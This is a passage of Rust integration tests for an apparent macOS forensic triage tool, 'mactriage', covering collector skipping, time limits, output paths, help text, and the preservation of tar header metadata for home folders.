                    if refused == 1 { "path" } else { "paths" }
                )),
            "{name}: {msg}"
        );
        assert_eq!(c["status"], "partial", "{name}");
    }
    // bob's history is read as before.
    assert!(jsonl(&members, "shell_history")
        .iter()
        .any(|r| r["command"] == "whoami"));
}

#[test]
fn the_output_directory_inside_the_root_is_never_collected() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let out = root.join("Users/alice/case");
    std::fs::create_dir(&out).unwrap();
    // A history file in the output directory must not be collected.
    std::fs::write(out.join(".zsh_history"), b"should not be collected\n").unwrap();
    let first = collect(&root, &out, &[]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let members = members_map(&first.tarball());
    assert!(
        members.keys().all(|k| !k.contains("/case/")),
        "{:?}",
        members.keys()
    );
}

#[test]
fn deselected_and_live_only_collectors_are_skipped() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--skip", "shell_history"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let man = manifest(&members);
    let status = |n: &str| collector(&man, n).clone();
    assert_eq!(status("shell_history")["status"], "skipped");
    assert_eq!(status("shell_history")["reason"], "skipped (--skip)");
    assert_eq!(status("processes")["status"], "skipped");
    assert!(status("processes")["reason"]
        .as_str()
        .unwrap()
        .starts_with("live-only"));
    assert_eq!(status("browsers")["status"], "ok");
    assert!(!members.contains_key("parsed/shell_history.jsonl"));
    assert!(!members.contains_key("parsed/processes.jsonl"));
    // Every collector is in the manifest, whether it ran or not.
    let listed = String::from_utf8(bin().arg("list").output().unwrap().stdout).unwrap();
    assert_eq!(
        man["collectors"].as_array().unwrap().len(),
        listed.lines().count()
    );
}

#[test]
fn time_limit_0_means_no_limit() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(&fixture("mac-basic"), work.path(), &["--time-limit", "0"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let man = manifest(&members_map(&run.tarball()));
    let limits = &man["collection"]["limits"];
    assert_eq!(limits["time_limit_s"], serde_json::Value::Null, "{limits}");
    assert_eq!(limits["time_limit_reached"], false);
    // The default is 8 minutes.
    let work = tempfile::tempdir().unwrap();
    let run = collect(&fixture("mac-basic"), work.path(), &["--skip", "asl"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let man = manifest(&members_map(&run.tarball()));
    assert_eq!(man["collection"]["limits"]["time_limit_s"], 480.0);
}

#[test]
fn a_non_utf8_output_path_is_printed_byte_for_byte() {
    use std::os::unix::ffi::OsStrExt;
    let work = tempfile::tempdir().unwrap();
    // "case-été" in Latin-1: not UTF-8.
    let out = work
        .path()
        .join(std::ffi::OsStr::from_bytes(b"case-\xe9t\xe9"));
    std::fs::create_dir(&out).unwrap();
    let run = collect(&fixture("mac-basic"), &out, &["--quiet"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let stdout = &run.output.stdout;
    let line = stdout.strip_suffix(b"\n").expect("a newline at the end");
    assert!(!line.contains(&b'\n'), "{stdout:?}");
    let tarball = Path::new(std::ffi::OsStr::from_bytes(line));
    assert!(tarball.is_file(), "{tarball:?} is not the tarball");
    assert_eq!(tarball.parent().unwrap(), out.canonicalize().unwrap());
    let name = tarball.file_name().unwrap().to_str().unwrap();
    assert!(name.starts_with("mactriage_alice-mbp_"), "{name}");
}

#[test]
fn quiet_prints_only_the_path() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(&fixture("mac-basic"), work.path(), &["--quiet"]);
    assert_eq!(run.code, 0);
    assert_eq!(run.stderr, "");
    assert_eq!(run.stdout.lines().count(), 1);
    assert!(run.tarball().exists());
}

#[test]
fn list_help_and_version() {
    let out = bin().arg("list").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text
        .lines()
        .any(|l| l.starts_with("shell_history ") && l.contains("any root")));
    let help = bin().arg("--help").output().unwrap();
    assert!(help.status.success());
    let help = String::from_utf8(help.stdout).unwrap();
    assert!(help.contains("Examples:") && help.contains("--root /Volumes/Image"));
    let collect_help =
        String::from_utf8(bin().args(["collect", "--help"]).output().unwrap().stdout).unwrap();
    for flag in [
        "--root",
        "--output",
        "--only",
        "--skip",
        "--quiet",
        "--time-limit",
        "--max-file-size",
        "--max-total-size",
    ] {
        assert!(collect_help.contains(flag), "{flag}");
    }
    // Examples, among them the README's first command and no time limit
    // (help text is wrapped to the widest flag: compare words, not lines).
    let collect_help = collect_help
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    for example in [
        "Examples:",
        "mactriage collect --root fixtures/mac-basic --output /tmp",
        "--time-limit 0",
        "0 means no limit",
        "Exit status:",
    ] {
        assert!(
            collect_help.contains(example),
            "{example:?} not in:\n{collect_help}"
        );
    }
    let v = bin().arg("--version").output().unwrap();
    assert_eq!(
        String::from_utf8(v.stdout).unwrap().trim(),
        format!("mactriage {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn home_folders_keep_their_owner_mode_and_times() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let as_root = nix::unistd::geteuid().is_root();
    // (home, uid, gid, mode, mtime): alice and bob as macOS makes them;
    // olduser has no collected file but is a home all the same.
    let homes = [
        ("Users/alice", 501, 20, 0o750, 1_700_000_000),
        ("Users/bob", 502, 20, 0o700, 1_700_000_100),
        ("Users/olduser", 503, 20, 0o755, 1_600_000_000),
        ("private/var/root", 0, 0, 0o750, 1_650_000_000),
    ];
    for (home, uid, gid, mode, mtime) in homes {
        let p = root.join(home);
        if as_root {
            std::os::unix::fs::chown(&p, Some(uid), Some(gid)).unwrap();
        }
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
        filetime::set_file_mtime(&p, filetime::FileTime::from_unix_time(mtime, 0)).unwrap();
    }
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let run = collect(&root, &out, &["--only", "host_files,shell_history"]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    // The tar headers (GNU, never PAX: mac_apt skips PAX members).
    let f = std::fs::File::open(run.tarball()).unwrap();
    let mut ar = tar::Archive::new(flate2::read::GzDecoder::new(f));
    let mut headers = std::collections::BTreeMap::new();
    for e in ar.entries().unwrap() {
        let e = e.unwrap();
        let h = e.header();
        assert!(h.as_gnu().is_some(), "{:?} has no GNU header", e.path());
        assert_ne!(h.entry_type(), tar::EntryType::XHeader);
        let name = e.path().unwrap().to_string_lossy().into_owned();
        let v = (
            h.entry_type(),
            h.uid().unwrap(),
            h.gid().unwrap(),
            h.mode().unwrap(),
            h.mtime().unwrap(),
        );
        assert!(headers.insert(name.clone(), v).is_none(), "{name} twice");
    }
    for (home, uid, gid, mode, mtime) in homes {
        let (kind, huid, hgid, hmode, hmtime) = headers[&format!("[root]/{home}")];
        assert_eq!(kind, tar::EntryType::Directory, "{home}");
        assert_eq!((hmode, hmtime as i64), (mode, mtime), "{home}");
        if as_root {
            assert_eq!((huid, hgid), (u64::from(uid), u64::from(gid)), "{home}");
        }
    }
    // Each home and each ancestor has a body-file line.
    let members = members_map(&run.tarball());
    let body = String::from_utf8(members["bodyfile/bodyfile.txt"].data.clone()).unwrap();
    for dir in [
        "/Users",
        "/Users/olduser",
        "/private",
        "/private/var",
        "/private/var/root",
    ] {
        assert_eq!(
            body.lines()
                .filter(|l| l.split('|').nth(1) == Some(dir))
                .count(),
            1,
            "{dir}"
        );
    }
}
